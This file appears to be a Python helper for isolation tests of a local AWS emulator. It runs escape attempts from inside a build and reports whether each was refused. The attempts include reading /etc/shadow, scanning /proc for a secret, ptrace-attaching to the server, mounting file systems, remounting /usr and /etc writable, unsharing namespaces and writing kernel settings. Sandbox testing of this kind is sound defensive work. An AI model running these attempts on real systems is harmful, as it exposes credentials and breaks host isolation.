"""What a hostile program tries from inside of a job or a build. Run as a script there, with the standard library alone.

``python attacks.py given.json``, which says where things are that it must not reach. It prints one JSON object: of each
attack what it got, or ``refused`` with the reason. Whether a result is an escape, ``test_isolation_*.py`` says.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path
from typing import Any

given: dict[str, Any] = json.loads(Path(sys.argv[1]).read_text()) if __name__ == "__main__" else {}
libc = ctypes.CDLL(None, use_errno=True)


def read_a_file_of_the_users_home() -> str:
    return Path(given["secret_file"]).read_text()


def list_the_users_home() -> list[str]:
    return os.listdir(given["home"])


def list_the_state_directory() -> list[str]:
    """But for the empty folders that lead to a build's own."""
    return [name for name in os.listdir(given["state"]) if name != "work"]


def read_files_of_other_runs() -> list[str]:
    return [str(path) for path in Path(given["state"]).rglob("*") if path.name == given["file_of_another_run"]]


def write_into_the_users_home() -> str:
    Path(given["written_file"]).write_text("x")
    return "written"


def write_into_the_system() -> str:
    Path("/usr/written-by-a-run").write_text("x")
    return "written"


def write_into_localaws() -> str:
    (Path(given["package"]) / "written_by_a_run.py").write_text("x")
    return "written"


def read_the_passwords() -> str:
    return Path("/etc/shadow").read_text()


def find_the_secret_in_an_environment() -> list[str]:
    found = []
    for folder in Path("/proc").iterdir():
        try:
            if folder.name.isdigit() and given["secret_value"].encode() in (folder / "environ").read_bytes():
                found.append(folder.name)
        except OSError:
            continue
    return found


def see_the_servers_process() -> list[str]:
    found = []
    for folder in Path("/proc").iterdir():
        try:
            if folder.name.isdigit() and b"--state" in (folder / "cmdline").read_bytes():
                found.append(folder.name)
        except OSError:
            continue
    return found


def count_processes() -> int:
    return sum(name.isdigit() for name in os.listdir("/proc"))


def signal_the_server() -> str:
    os.kill(given["server"], 0)
    return "may signal"


def trace_the_server() -> str:
    attach = 16
    if libc.ptrace(attach, given["server"], None, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "traced"


def own_environment() -> list[str]:
    return [name for name, value in os.environ.items() if given["secret_value"] in value]


def inherited_descriptors() -> list[str]:
    """Those that lead elsewhere than its own output."""
    own = {os.readlink(f"/proc/self/fd/{number}") for number in range(3)}
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            leads_to = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue  # the one that listed them
        if leads_to not in own and not leads_to.startswith("/proc/"):
            found.append(leads_to)
    return found


def connect_to_another_port() -> str:
    with socket.create_connection(("127.0.0.1", given["other_port"]), 3):
        return "connected"


def connect_to_a_socket_file() -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(given["socket_file"])
    return "connected"


def connect_to_an_abstract_socket() -> str:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + given["abstract_socket"])
    return "connected"


def ask_the_server() -> str:
    with urllib.request.urlopen(f"{given['endpoint_url']}/_localaws/health", timeout=10) as answer:
        return json.load(answer)["service"]


def make_a_device() -> str:
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(254, 0))
    return "made"


def mount_a_file_system() -> str:
    os.makedirs("/tmp/mounted", exist_ok=True)
    if libc.mount(b"tmpfs", b"/tmp/mounted", b"tmpfs", 0, None) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return "mounted"


def make_the_system_writable_again() -> str:
    remount_bind = 32 | 4096
    for path in (b"/usr", b"/etc"):
        if libc.mount(None, path, None, remount_bind, None) == 0:
            return "remounted"
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def look_below_the_mounts_from_a_namespace() -> str:
    script = "umount -l /tmp || umount -l /etc || mount -o remount,rw,bind /usr"
    command = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script]
    done = subprocess.run(command, capture_output=True, check=False)
    if done.returncode:
        raise OSError(done.stderr.decode())
    return "unmounted"


def change_a_setting_of_the_kernel() -> str:
    """It writes what is there: where the attack succeeds it must not harm the machine that it is tried on."""
    setting = Path("/proc/sys/kernel/core_pattern")
    setting.write_text(setting.read_text())
    return "changed"


def host_name() -> str:
    return socket.gethostname()


ATTACKS: tuple[Callable[[], Any], ...] = (
    read_a_file_of_the_users_home,
    list_the_users_home,
    list_the_state_directory,
    read_files_of_other_runs,
    write_into_the_users_home,
    write_into_the_system,
    write_into_localaws,
    read_the_passwords,
    find_the_secret_in_an_environment,
    see_the_servers_process,
    count_processes,
    signal_the_server,
    trace_the_server,
    own_environment,
    inherited_descriptors,
    connect_to_another_port,
    connect_to_a_socket_file,
    connect_to_an_abstract_socket,
    ask_the_server,
    make_a_device,
    mount_a_file_system,
    make_the_system_writable_again,
    look_below_the_mounts_from_a_namespace,
    change_a_setting_of_the_kernel,
    host_name,
)


def made(attack: Callable[[], Any]) -> dict[str, Any]:
    try:
        return {"got": attack()}
    except BaseException as error:
        return {"refused": f"{type(error).__name__}: {error}"}


if __name__ == "__main__":
    print("ATTACKS " + json.dumps({attack.__name__: made(attack) for attack in ATTACKS}), flush=True)
